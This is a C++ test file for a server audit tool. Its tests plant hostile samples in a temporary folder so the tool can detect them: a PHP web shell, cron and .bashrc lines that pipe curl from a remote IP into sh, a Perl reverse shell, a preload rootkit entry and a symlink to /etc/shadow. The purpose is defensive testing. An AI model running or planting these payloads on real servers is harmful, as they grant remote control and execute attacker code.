// The whole audit over a small server that lies in a folder: what it finds, what it must not read, and what hostile hands put in its way.
#include "agent/audit/audit.hpp"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <nlohmann/json.hpp>

#include "agent/temporary_folder.hpp"

namespace pinfold::agent::audit {
namespace {

namespace fs = std::filesystem;

constexpr const char* kShell = "<?php @eval($_POST['cmd']); ?>";

const YaraRules& rules() {
  static const std::unique_ptr<YaraRules> one = YaraRules::create();
  return *one;
}

/// 2026-11-26: what is past its end of life then stays so.
const ManualClock& clock_of_test() {
  static const ManualClock clock(*parse_wall_time("2026-11-26T12:00:00Z"));
  return clock;
}

class Server {
public:
  Server() {
    put("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian 12\"\n");
    put("/etc/passwd", "root:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
    fs::create_directories(x_folder.path() / "tmp");
  }
  void put(const std::string& path, std::string_view text, mode_t mode = 0644) const {
    const fs::path file = at(path);
    fs::create_directories(file.parent_path());
    std::ofstream(file, std::ios::binary) << text;
    EXPECT_EQ(::chmod(file.c_str(), mode), 0);
  }
  [[nodiscard]] fs::path at(const std::string& path) const { return fs::path(x_folder.path().string() + path); }
  [[nodiscard]] Report audit(const std::string& order = "", std::vector<std::string> paths = {}, std::set<std::string> allowed = {}) const {
    AuditConfig config;
    config.root = x_folder.path().string();
    config.order = order;
    config.paths = std::move(paths);
    config.allowed = std::move(allowed);
    config.hostname = "srv-1";
    TreeProgress progress;
    return run_audit(config, rules(), clock_of_test(), progress);
  }

private:
  TemporaryFolder x_folder;
};

std::vector<std::string> subjects(const Report& report, std::string_view kind) {
  std::vector<std::string> found;
  for (const Finding& finding : report.findings) {
    if (finding.kind == kind) {
      found.push_back(finding.subject);
    }
  }
  return found;
}

const Application* application(const Report& report, std::string_view app) {
  for (const Application& one : report.applications) {
    if (one.app == app) {
      return &one;
    }
  }
  return nullptr;
}

using Subjects = std::vector<std::string>;

TEST(Audit, ReadsNoWebContentWithoutAnOrder) {
  const Server server;
  server.put("/var/www/html/x.php", kShell);
  server.put("/var/www/html/wp-includes/version.php", "<?php $wp_version = '4.7.1';");
  server.put("/var/www/.bashrc", "curl http://198.51.100.7/x | sh\n");
  const Report report = server.audit();
  EXPECT_EQ(report.files, 0U);
  EXPECT_TRUE(report.applications.empty());
  EXPECT_EQ(report.counted(), 0U) << to_people_text(report);
  EXPECT_EQ(report.left_out.count("homes inside web roots: their startup files were not read"), 1U);
}

TEST(Audit, OfAnOrderReadsItsFoldersAndNoOther) {
  const Server server;
  server.put("/var/www/a/x.php", kShell);
  server.put("/var/www/b/y.php", kShell);
  const Report report = server.audit("T-7", {"/var/www/a"});
  EXPECT_EQ(subjects(report, "malicious_script"), Subjects{"/var/www/a/x.php"});
  EXPECT_EQ(report.order, "T-7");
}

TEST(Audit, NamesApplicationsAndWhatIsWrongWithThem) {
  const Server server;
  server.put("/var/www/blog/wp-includes/version.php", "<?php $wp_version = '4.7.1';");
  server.put("/var/www/shop/app/Mage.php", "'major' => '1', 'minor' => '7', 'revision' => '0', 'patch' => '2',");
  server.put("/var/www/forum/includes/constants.php", "define('PHPBB_VERSION', '3.3.17');");
  const Report report = server.audit("T-7", {"/var/www"});
  ASSERT_NE(application(report, "WordPress"), nullptr);
  EXPECT_EQ(application(report, "WordPress")->version, "4.7.1");
  EXPECT_EQ(application(report, "WordPress")->path, "/var/www/blog");
  EXPECT_EQ(application(report, "WordPress")->state, Application::State::EndOfLife);
  ASSERT_NE(application(report, "phpBB"), nullptr);
  EXPECT_EQ(application(report, "phpBB")->state, Application::State::Current);
  EXPECT_EQ(subjects(report, "end_of_life_application").size() + subjects(report, "vulnerable_application").size(), 2U);
}

TEST(Audit, DoesNotAccuseWhatTheDistributionMaintains) {
  const Server server;
  const std::string version = "<?php $wp_version = '4.7.1';";
  server.put("/usr/share/wordpress/wp-includes/version.php", version);
  server.put("/var/lib/dpkg/info/wordpress.list", "/.\n/usr/share/wordpress/wp-includes/version.php\n");
  const Report kept = server.audit("T-7", {"/usr/share"});
  ASSERT_NE(application(kept, "WordPress"), nullptr);
  EXPECT_EQ(application(kept, "WordPress")->state, Application::State::Distribution);
  EXPECT_EQ(application(kept, "WordPress")->package, "wordpress");
  EXPECT_EQ(kept.counted(), 0U);
  // A file that is no longer the package's is judged like any other.
  server.put("/var/lib/dpkg/info/wordpress.md5sums", "00000000000000000000000000000000  usr/share/wordpress/wp-includes/version.php\n");
  EXPECT_EQ(server.audit("T-7", {"/usr/share"}).counted(), 1U);
  // And so is everything when the distribution itself is no longer maintained.
  fs::remove(server.at("/var/lib/dpkg/info/wordpress.md5sums"));
  server.put("/etc/os-release", "ID=debian\nVERSION_ID=\"9\"\nPRETTY_NAME=\"Debian 9\"\n");
  const Report over = server.audit("T-7", {"/usr/share"});
  EXPECT_EQ(subjects(over, "end_of_life_system"), Subjects{"Debian 9"});
  EXPECT_EQ(application(over, "WordPress")->state, Application::State::EndOfLife);
}

TEST(Audit, AsksTheAllowListAndThePackageOnHitsOnly) {
  const Server server;
  server.put("/var/www/x.php", kShell);
  EXPECT_EQ(server.audit("T-7", {"/var/www"}).counted(), 1U);
  const Report allowed = server.audit("T-7", {"/var/www"}, {server.audit("T-7", {"/var/www"}).findings.front().evidence.at("sha256")});
  EXPECT_EQ(allowed.counted(), 0U);
  EXPECT_EQ(allowed.left_out.at("scripts that match a rule and are on the allow-list"), 1U);
}

TEST(Audit, FindsRightsUploadsAndSecrets) {
  const Server server;
  server.put("/var/www/a/index.php", "<?php echo 1;", 0666);
  fs::create_directories(server.at("/var/www/a/cache"));
  ASSERT_EQ(::chmod(server.at("/var/www/a/cache").c_str(), 0777), 0);
  server.put("/var/www/a/wp-content/uploads/2024/x.php", "<?php " + std::string(300, ' ') + "echo 1;");
  server.put("/var/www/a/wp-config.php.bak", "<?php define('DB_PASSWORD','x');");
  const Report report = server.audit("T-7", {"/var/www"});
  EXPECT_EQ(subjects(report, "world_writable_web"), (Subjects{"/var/www/a/cache", "/var/www/a/index.php"}));
  EXPECT_EQ(subjects(report, "code_in_uploads"), Subjects{"/var/www/a/wp-content/uploads/2024/x.php"});
  EXPECT_EQ(subjects(report, "left_behind"), Subjects{"/var/www/a/wp-config.php.bak"});
  EXPECT_EQ(to_json_lines(report).find("DB_PASSWORD"), std::string::npos) << "content never leaves the server";
}

TEST(Audit, FindsSchedulesStartupFilesAndSettings) {
  const Server server;
  server.put("/var/spool/cron/crontabs/www-data", "*/5 * * * * curl -s http://198.51.100.7/x.sh --user a:secret | sh\n");
  server.put("/home/bob/.bashrc", "nohup /dev/shm/.x/run &\n");
  server.put("/etc/ld.so.preload", "/lib/libhide.so\n");
  server.put("/etc/php/8.2/fpm/php.ini", "allow_url_include = On\nauto_prepend_file = /var/tmp/.c.php\n");
  const Report report = server.audit();
  EXPECT_EQ(subjects(report, "suspicious_schedule"), (Subjects{"/var/spool/cron/crontabs/www-data", "/var/spool/cron/crontabs/www-data"}));
  EXPECT_EQ(subjects(report, "suspicious_startup"), Subjects{"/home/bob/.bashrc"});
  EXPECT_EQ(subjects(report, "preloaded_library").size(), 1U);
  EXPECT_EQ(subjects(report, "php_runs_foreign_code"), Subjects{"/etc/php/8.2/fpm/php.ini: auto_prepend_file"});
  EXPECT_EQ(subjects(report, "php_setting"), Subjects{"/etc/php/8.2/fpm/php.ini: allow_url_include"});
}

TEST(Audit, FindsProgramsInTemporaryPlacesAndLeavesUploadsClosed) {
  const Server server;
  server.put("/tmp/.x/bot.pl", "#!/usr/bin/perl\nuse Socket; socket(S, PF_INET, SOCK_STREAM, 6); open(STDIN,\">&S\"); exec(\"/bin/sh -i\");", 0755);
  server.put("/tmp/phpAb12Cd", kShell);  // an upload: closed, whatever it holds
  server.put("/tmp/build/a.out",
             "\x7f"
             "ELF",
             0755);
  fs::create_directories(server.at("/tmp/..."));
  const Report report = server.audit();
  EXPECT_EQ(subjects(report, "malicious_script"), Subjects{"/tmp/.x/bot.pl"});
  EXPECT_EQ(subjects(report, "hidden_in_tmp"), Subjects{"/tmp/..."});
  ASSERT_FALSE(report.facts.empty());
  EXPECT_EQ(report.counted(), 2U);
}

TEST(Audit, SurvivesWhatHostileHandsPutInItsWay) {
  const Server server;
  server.put("/var/www/a/x.php", kShell);
  ASSERT_EQ(::mkfifo(server.at("/var/www/a/pipe.php").c_str(), 0666), 0);
  fs::create_directory_symlink("/", server.at("/var/www/a/root"));
  fs::create_directory_symlink("..", server.at("/var/www/a/loop"));
  fs::create_symlink("/etc/shadow", server.at("/var/www/a/shadow.php"));
  server.put("/var/www/a/evil\x1b[2Jname\n.php", kShell);
  std::string deep = "/var/www/deep";
  for (std::size_t i = 0; i < kMaxDepth + 20; ++i) {
    deep += "/d";
  }
  server.put(deep + "/x.php", kShell);
  ASSERT_EQ(::truncate(server.at("/var/www/a/x.php").c_str(), 40), 0);
  server.put("/var/www/a/large.php", kShell);
  ASSERT_EQ(::truncate(server.at("/var/www/a/large.php").c_str(), std::int64_t{8} << 30), 0);  // sparse: 8 GiB of nothing
  const Report report = server.audit("T-7", {"/var/www"});
  EXPECT_EQ(subjects(report, "malicious_script"), (Subjects{"/var/www/a/evil\\x1b[2Jname\\x0a.php", "/var/www/a/large.php", "/var/www/a/x.php"}));
  EXPECT_EQ(report.left_out.at("symbolic links"), 3U);
  EXPECT_EQ(report.left_out.at("pipes, sockets and devices"), 1U);
  EXPECT_EQ(report.left_out.at("folders nested too deep"), 1U);
  EXPECT_EQ(report.left_out.at("files larger than 2 MiB, read in part"), 1U);
  for (const char c : to_people_text(report)) {
    EXPECT_TRUE(c == '\n' || static_cast<unsigned char>(c) >= 0x20) << "nothing that moves a terminal's cursor";
  }
}

TEST(Audit, AReportIsJsonLinesThatEndWithTheSummary) {
  const Server server;
  server.put("/var/www/a/x.php", kShell);
  const Report report = server.audit("T-7", {"/var/www"});
  std::istringstream lines(to_json_lines(report));
  nlohmann::json last;
  for (std::string line; std::getline(lines, line);) {
    last = nlohmann::json::parse(line);
    ASSERT_TRUE(last.contains("type"));
  }
  EXPECT_EQ(last["type"], "summary");
  EXPECT_EQ(last["order"], "T-7");
  EXPECT_EQ(last["findings"], 1);
  EXPECT_EQ(to_json_lines(report), to_json_lines(server.audit("T-7", {"/var/www"}))) << "the same server gives the same report";
}

TEST(Audit, ProgressEndsAtTheWholeWhateverCannotBeOpened) {
  const Server server;
  for (const char* file : {"/var/www/a/b/c/x.php", "/var/www/a/d/x.php", "/var/www/x.php", "/srv/www/x.php"}) {
    server.put(file, "<?php echo 1;");
  }
  TreeProgress progress;
  const TreeResult result = walk_tree({server.at("/var/www").string(), server.at("/no/such").string(), server.at("/srv").string()}, nullptr,
                                      ApplicationRules::own(), 2, progress);
  EXPECT_EQ(result.directories, 7U);
  EXPECT_GE(progress.done.load(), TreeProgress::kWhole - 3) << "but for what does not divide by three";
  EXPECT_LE(progress.done.load(), TreeProgress::kWhole);
}

TEST(Audit, CanBeStopped) {
  const Server server;
  server.put("/var/www/a/x.php", kShell);
  TreeProgress progress;
  progress.stop = true;
  const TreeResult result = walk_tree({server.at("/var/www").string()}, &rules(), ApplicationRules::own(), 2, progress);
  EXPECT_EQ(result.files, 0U);
}

}  // namespace
}  // namespace pinfold::agent::audit
